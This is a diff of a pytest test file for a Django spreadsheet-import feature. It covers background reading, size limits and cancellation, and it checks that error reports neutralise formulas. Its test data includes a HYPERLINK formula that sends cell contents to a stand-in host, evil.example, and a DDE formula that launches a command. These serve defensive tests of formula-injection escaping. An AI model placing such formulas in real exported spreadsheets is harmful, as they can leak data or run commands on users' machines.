@@ -6,12 +6,16 @@ from __future__ import annotations
 import codecs
 import csv
 import io
+import re
+import zipfile
+from contextlib import contextmanager
 from datetime import date, datetime
 from pathlib import Path
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import DatabaseError
+from django.test import TestCase, override_settings
 from django.utils import translation
 from django_tasks_db.models import DBTaskResult
 from openpyxl import Workbook, load_workbook
@@ -28,6 +32,7 @@ from jifen.core.imports import (
     read_rows,
     register,
     remap_import_job,
+    run_import_check,
     run_import_commit,
     start_import_commit,
 )
@@ -78,10 +83,14 @@ class NoteImporter(Importer):
         return {"created": len(items)}
 
 
-@register
-class BackgroundNoteImporter(NoteImporter):
-    kind = "test.notes_bg"
-    background = True
+IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
+
+
+@contextmanager
+def worker():
+    """What is enqueued on commit runs at the end of the block, as `jifen worker` would."""
+    with override_settings(TASKS=IMMEDIATE), TestCase.captureOnCommitCallbacks(execute=True):
+        yield
 
 
 @pytest.fixture(autouse=True)
@@ -119,7 +128,25 @@ def notes() -> list[AuditEntry]:
 
 
 def upload(file: SimpleUploadedFile, importer: Importer | None = None) -> ImportJob:
-    return create_import_job(importer=importer or NoteImporter(), upload=file, actor=None)
+    """Upload, then let the worker read and check the file."""
+    with worker():
+        job = create_import_job(importer=importer or NoteImporter(), upload=file, actor=None)
+    job.refresh_from_db()
+    return job
+
+
+def remap(job: ImportJob, mapping: dict) -> ImportJob:
+    with worker():
+        job = remap_import_job(job=job, mapping=mapping, actor=None)
+    job.refresh_from_db()
+    return job
+
+
+def commit(job: ImportJob, mode: str = "all") -> ImportJob:
+    with worker():
+        job = start_import_commit(job=job, mode=mode, actor=None)
+    job.refresh_from_db()
+    return job
 
 
 # --- reading --------------------------------------------------------------------------
@@ -154,7 +181,7 @@ def test_csv_is_read_in_utf8_with_or_without_bom_and_in_gb18030(encoding, bom):
     assert job.mapping["code"] == 0 and job.mapping["text"] == 1
     assert job.valid_rows == 2
 
-    start_import_commit(job=job, mode="all", actor=None)
+    commit(job)
 
     assert [n.object_repr for n in notes()] == ["张伟的笔记", "李娜"]
 
@@ -184,13 +211,17 @@ def test_numbers_and_dates_from_excel_become_the_text_and_dates_people_typed():
 
 
 def test_an_unreadable_file_is_refused_with_a_reason():
+    # What the file's name and zip directory tell is refused in the upload request itself.
     with pytest.raises(errors.ValidationError, match="Excel"):
         upload(SimpleUploadedFile("notes.xlsx", b"not a zip"))
     with pytest.raises(errors.ValidationError, match=r"\.xls"):
         upload(SimpleUploadedFile("notes.xls", b"\xd0\xcf\x11\xe0"))
-    with pytest.raises(errors.ValidationError, match="no data"):
-        upload(csv_file([["code", "text"]]))
     assert ImportJob.objects.count() == 0
+    # What only reading tells, the worker says on the job.
+    job = upload(csv_file([["code", "text"]]))
+    assert job.status == ImportJob.Status.FAILED
+    assert "no data" in job.failure_reason
+    assert notes() == []
 
 
 # --- mapping --------------------------------------------------------------------------
@@ -202,7 +233,7 @@ def test_an_unmatched_required_column_blocks_the_commit_until_it_is_mapped():
     with pytest.raises(errors.ValidationError):
         start_import_commit(job=job, mode="all", actor=None)
 
-    job = remap_import_job(job=job, mapping={"code": 0, "text": 1}, actor=None)
+    job = remap(job, {"code": 0, "text": 1})
 
     assert (job.valid_rows, job.error_count) == (2, 0)
     assert job.preview_rows == [{"row": 2, "values": ["A1", "x"]},
@@ -228,7 +259,7 @@ def test_import_all_is_refused_while_any_row_has_an_error():
 def test_import_valid_only_writes_just_the_valid_rows_and_reports_the_counts():
     job = upload(xlsx_file([["编码", "内容"], ["A1", "x"], ["", "no code"], ["A3", "z"]]))
 
-    job = start_import_commit(job=job, mode="valid_only", actor=None)
+    job = commit(job, "valid_only")
 
     assert job.status == ImportJob.Status.DONE
     assert job.result == {"created": 2, "imported": 2, "skipped": 1}
@@ -240,7 +271,7 @@ def test_import_valid_only_writes_just_the_valid_rows_and_reports_the_counts():
 def test_a_database_error_rolls_back_every_row_and_the_job_says_why():
     job = upload(xlsx_file([["编码"], ["A1"], ["A2"], ["BOOM"], ["A4"]]))
 
-    job = start_import_commit(job=job, mode="all", actor=None)
+    job = commit(job)
 
     assert job.status == ImportJob.Status.FAILED
     assert "disk on fire" in job.failure_reason
@@ -249,17 +280,16 @@ def test_a_database_error_rolls_back_every_row_and_the_job_says_why():
 
 def test_a_second_commit_of_the_same_job_is_refused():
     job = upload(xlsx_file([["编码"], ["A1"]]))
-    start_import_commit(job=job, mode="all", actor=None)
+    commit(job)
 
     with pytest.raises(errors.Conflict):
         start_import_commit(job=job, mode="all", actor=None)
     assert len(notes()) == 1
 
 
-def test_a_background_importer_commits_in_the_worker_and_reports_progress(
+def test_the_commit_runs_in_the_worker_and_reports_progress(
         django_capture_on_commit_callbacks):
-    job = upload(xlsx_file([["编码"], *[[f"A{i}"] for i in range(1200)]]),
-                 importer=BackgroundNoteImporter())
+    job = upload(xlsx_file([["编码"], *[[f"A{i}"] for i in range(1200)]]))
 
     with django_capture_on_commit_callbacks(execute=True):
         job = start_import_commit(job=job, mode="all", actor=None)
@@ -354,7 +384,7 @@ def test_a_column_without_a_header_can_still_be_chosen():
     assert job.headers == ["编码", "内容", ""]
     assert job.mapping["day"] is None
 
-    job = remap_import_job(job=job, mapping={"code": 0, "text": 1, "day": 2}, actor=None)
+    job = remap(job, {"code": 0, "text": 1, "day": 2})
 
     assert job.error_rows == [{"row": 3, "field": "day", "message": "Not a date."}]
 
@@ -372,12 +402,14 @@ def test_old_uploads_are_deleted_and_their_jobs_kept(db, hr_admin, client):
     from jifen.people.imports import EmployeeImporter
 
     sheet = [["工号", "姓名", "部门编码"], ["P1", "甲", "NOPE"]]  # one bad row
-    old_done = create_import_job(importer=EmployeeImporter(), upload=csv_file(sheet),
-                                 actor=hr_admin.user)
+    old_done = upload(csv_file(sheet), importer=EmployeeImporter())
     ImportJob.objects.filter(pk=old_done.pk).update(status=ImportJob.Status.DONE)
     old_preview, recent = upload(csv_file([["code"], ["A1"]])), upload(
         csv_file([["code"], ["A2"]]))
-    storage, names = old_done.file.storage, [old_done.file.name, old_preview.file.name]
+    storage, names = old_done.file.storage, [old_done.file.name, old_preview.file.name,
+                                             *old_done.reports.values()]
+    assert sorted(old_done.reports) == ["csv", "xlsx"]
+    assert all(storage.exists(name) for name in names)
     month_ago = timezone.now() - timedelta(days=31)
     ImportJob.objects.filter(pk__in=[old_done.pk, old_preview.pk]).update(updated_at=month_ago)
 
@@ -437,15 +469,71 @@ def test_the_upgrade_moves_earlier_sheets_out_of_the_public_folder(settings, tmp
     assert private.open("imports/2026/11/codes.csv").read() == b"SECRET-CODE-1234"
 
 
-def test_a_sheet_with_more_rows_than_allowed_is_refused_whole(monkeypatch):
+def _with_dimension(content: bytes, ref: str | None) -> bytes:
+    """The workbook with its sheet's declared size (<dimension ref=…>) set to ``ref``, or
+    without one when ``ref`` is None (some programs write none, or a wrong one)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
+        for entry in source.infolist():
+            data = source.read(entry.filename)
+            if entry.filename.startswith("xl/worksheets/"):
+                text = re.sub(r"<dimension [^>]*/>", "", data.decode())
+                if ref:
+                    text = text.replace("<sheetViews>", f'<dimension ref="{ref}"/><sheetViews>')
+                data = text.encode()
+            target.writestr(entry, data)
+    return out.getvalue()
+
+
+def _parses(monkeypatch) -> list:
+    calls: list = []
+    real = NoteImporter.parse
+    monkeypatch.setattr(NoteImporter, "parse",
+                        lambda self, values, context: calls.append(1) or real(self, values,
+                                                                             context))
+    return calls
+
+
+def test_a_sheet_declaring_more_rows_or_cells_than_allowed_is_refused_before_a_row_is_read(
+        monkeypatch):
+    monkeypatch.setattr(imports, "MAX_ROWS", 50)
+    monkeypatch.setattr(imports, "MAX_CELLS", 120)
+    parsed = _parses(monkeypatch)
+    small = xlsx_file([["编码", "内容", "日期"], ["A1", "x", "2024-03-01"]]).read()
+
+    for ref, limit in (("A1:C60", "50 rows"), ("A1:Z45", "120 cells")):
+        job = upload(SimpleUploadedFile("notes.xlsx", _with_dimension(small, ref)))
+
+        assert job.status == ImportJob.Status.FAILED, ref
+        assert f"more than {limit}" in job.failure_reason
+    assert parsed == []
+    assert notes() == []
+
+
+def test_a_sheet_with_more_rows_than_allowed_stops_when_the_reading_gets_there(monkeypatch):
     monkeypatch.setattr(imports, "MAX_ROWS", 50)
     rows = [["编码", "内容", "日期"]] + [[f"A{n}", "x", "2024-03-01"] for n in range(60)]
-    for file in (xlsx_file(rows), csv_file(rows)):
-        with pytest.raises(errors.ValidationError) as refused:
-            upload(file)
-        assert refused.value.code == "file_too_large"
-        assert "50" in refused.value.message
-    assert not ImportJob.objects.exists()
+    workbook = _with_dimension(xlsx_file(rows).read(), None)  # it does not say its size
+    for file in (SimpleUploadedFile("notes.xlsx", workbook), csv_file(rows)):
+        job = upload(file)
+        assert job.status == ImportJob.Status.FAILED
+        assert "more than 50 rows" in job.failure_reason
+        assert job.valid_rows == job.error_count == 0
+    with pytest.raises(errors.ValidationError) as refused:
+        read_rows(workbook, "notes.xlsx")
+    assert refused.value.code == "file_too_large"
+    assert notes() == []
+
+
+def test_a_sheet_with_more_cells_than_allowed_stops_when_the_reading_gets_there(monkeypatch):
+    monkeypatch.setattr(imports, "MAX_CELLS", 100)
+    rows = [["编码", "内容", "日期"]] + [[f"A{n}", "x", "2024-03-01"] for n in range(40)]
+    workbook = _with_dimension(xlsx_file(rows).read(), "A1:C2")  # it says less than it has
+    for file in (SimpleUploadedFile("notes.xlsx", workbook), csv_file(rows)):
+        job = upload(file)
+        assert job.status == ImportJob.Status.FAILED
+        assert "more than 100 cells" in job.failure_reason
+    assert notes() == []
 
 
 def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(monkeypatch):
@@ -454,12 +542,11 @@ def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(monkey
     with pytest.raises(errors.ValidationError) as refused:
         upload(xlsx_file(rows))
     assert refused.value.code == "file_too_large"
+    assert not ImportJob.objects.exists()
 
 
 def test_a_workbook_with_a_huge_table_of_texts_is_refused_before_it_is_read(monkeypatch):
     """openpyxl keeps the whole shared-strings table in memory."""
-    import zipfile
-
     monkeypatch.setattr(imports, "MAX_SHARED_STRINGS_BYTES", 200)
     workbook = io.BytesIO(xlsx_file([["编码", "内容", "日期"]]).read())
     with zipfile.ZipFile(workbook, "a") as parts:  # openpyxl itself writes inline strings
@@ -470,8 +557,6 @@ def test_a_workbook_with_a_huge_table_of_texts_is_refused_before_it_is_read(monk
 
 
 def test_a_damaged_workbook_is_unreadable_not_a_crash():
-    import zipfile
-
     good = io.BytesIO()
     workbook = Workbook()
     workbook.active.append(["编码", "内容", "日期"])
@@ -483,9 +568,11 @@ def test_a_damaged_workbook_is_unreadable_not_a_crash():
             if entry.filename.startswith("xl/worksheets/"):
                 content = content[: len(content) // 2]  # cut off mid-XML
             target.writestr(entry, content)
-    with pytest.raises(errors.ValidationError) as refused:
-        upload(SimpleUploadedFile("notes.xlsx", damaged.getvalue()))
-    assert refused.value.code == "unreadable_file"
+
+    job = upload(SimpleUploadedFile("notes.xlsx", damaged.getvalue()))
+
+    assert job.status == ImportJob.Status.FAILED
+    assert job.failure_reason == "This file could not be read as an Excel workbook."
 
 
 def test_cells_far_to_the_right_are_not_read():
@@ -500,3 +587,116 @@ def test_cells_far_to_the_right_are_not_read():
     workbook.save(buffer)
     rows = imports.read_rows(buffer.getvalue(), "far.xlsx")
     assert rows == [(1, ["编码", "内容", "日期"]), (2, ["A1", "one", "2024-03-01"])]
+
+
+# --- the worker reads; error reports hand no formula back (issue 10, findings 7 and 9) ----
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
+DDE = "=cmd|' /C calc'!A0"
+FULLWIDTH = "＝HYPERLINK(\"http://evil.example\")"
+
+
+def formula_sheet() -> list[list]:
+    """A sheet whose header and bad rows carry formulas (row 3 and 4 have no code)."""
+    return [["编码", "内容", HYPERLINK],
+            ["A1", "fine", "x"],
+            ["", DDE, " +SUM(A1:A9)"],
+            ["", FULLWIDTH, "\u3000@SUM(A1)"]]
+
+
+def text_xlsx(rows: list[list]) -> SimpleUploadedFile:
+    """An xlsx whose cells are TEXT starting with "=" (as a user types '=… in Excel)."""
+    workbook = Workbook()
+    sheet = workbook.active
+    for row in rows:
+        sheet.append(row)
+    for row in sheet.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return SimpleUploadedFile("notes.xlsx", buffer.getvalue())
+
+
+@pytest.mark.parametrize("make", [text_xlsx, csv_file])
+def test_the_error_reports_hand_back_no_formula_from_the_upload(make):
+    job = upload(make(formula_sheet()))
+    assert job.error_count == 2
+
+    content, _type, _name = error_report(job, "xlsx")
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        assert "<f>" not in parts.read("xl/worksheets/sheet1.xml").decode()
+    rows = [[(c.value, c.data_type) for c in row]
+            for row in load_workbook(io.BytesIO(content)).active.iter_rows()]
+    assert rows[0][2] == ("'" + HYPERLINK, "s")  # the header too
+    assert rows[1][1:3] == [("'" + DDE, "s"), ("' +SUM(A1:A9)", "s")]
+    assert rows[2][1:3] == [("'" + FULLWIDTH, "s"), ("'\u3000@SUM(A1)", "s")]
+
+    content, _type, _name = error_report(job, "csv")
+    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    assert lines[0][2] == "'" + HYPERLINK
+    assert lines[1][1] == "'" + DDE
+    # cell_text trims the cell, then the quote goes on.
+    assert [lines[1][2], lines[2][1], lines[2][2]] == [
+        "'+SUM(A1:A9)", "'" + FULLWIDTH, "'@SUM(A1)"]
+
+
+def test_a_fixed_error_report_reads_back_as_the_text_first_uploaded():
+    job = upload(csv_file([["编码", "内容"], ["", "=1+2"]]))
+    content, _type, _name = error_report(job, "csv")
+    fixed = content.decode("utf-8-sig").replace("\r\n,", "\r\nA9,", 1)
+
+    again = upload(SimpleUploadedFile("fixed.csv", fixed.encode()))
+
+    assert again.error_count == 0
+    commit(again)
+    assert [n.object_repr for n in notes()] == ["=1+2"]  # stored as sent; exports quote it
+
+
+def test_the_upload_only_stores_the_file_and_the_worker_reads_it(
+        django_capture_on_commit_callbacks, monkeypatch):
+    parsed = _parses(monkeypatch)
+    with django_capture_on_commit_callbacks(execute=True):
+        job = create_import_job(importer=NoteImporter(), actor=None,
+                                upload=csv_file([["编码"], ["A1"], [""], ["A1"]]))
+
+    assert (job.status, job.total_rows, job.headers) == (ImportJob.Status.READING, 0, [])
+    assert parsed == []
+    queued = DBTaskResult.objects.get()
+    assert queued.task_path == "jifen.core.imports.check_import_task"
+    with pytest.raises(errors.Conflict):
+        start_import_commit(job=job, mode="all", actor=None)
+
+    job = run_import_check(job_id=job.pk)  # what the worker runs
+
+    assert job.status == ImportJob.Status.PREVIEWED
+    assert (job.total_rows, job.valid_rows, job.error_count) == (2, 1, 1)
+    assert len(parsed) == 2
+    assert sorted(job.reports) == ["csv", "xlsx"]
+    # The error report is the file the worker wrote: the download reads no sheet.
+    monkeypatch.setattr(imports, "stream_rows", None)
+    content, _type, name = error_report(job, "csv")
+    assert name == "notes-errors.csv" and b"Duplicate of row 2." in content
+
+
+def test_cancelling_while_the_worker_reads_stops_it(django_capture_on_commit_callbacks,
+                                                     monkeypatch):
+    monkeypatch.setattr(imports, "PROGRESS_EVERY", 10)
+    with django_capture_on_commit_callbacks(execute=True):
+        job = create_import_job(importer=NoteImporter(), actor=None,
+                                upload=csv_file([["编码"], *[[f"A{n}"] for n in range(50)]]))
+    real_parse = NoteImporter.parse
+
+    def parse_then_cancel(self, values, context):
+        if values["code"] == "A5":
+            cancel_import_job(job=job, actor=None)
+        return real_parse(self, values, context)
+
+    monkeypatch.setattr(NoteImporter, "parse", parse_then_cancel)
+
+    job = run_import_check(job_id=job.pk)
+
+    assert job.status == ImportJob.Status.CANCELLED
+    assert job.processed_rows == 0 and job.reports == {}
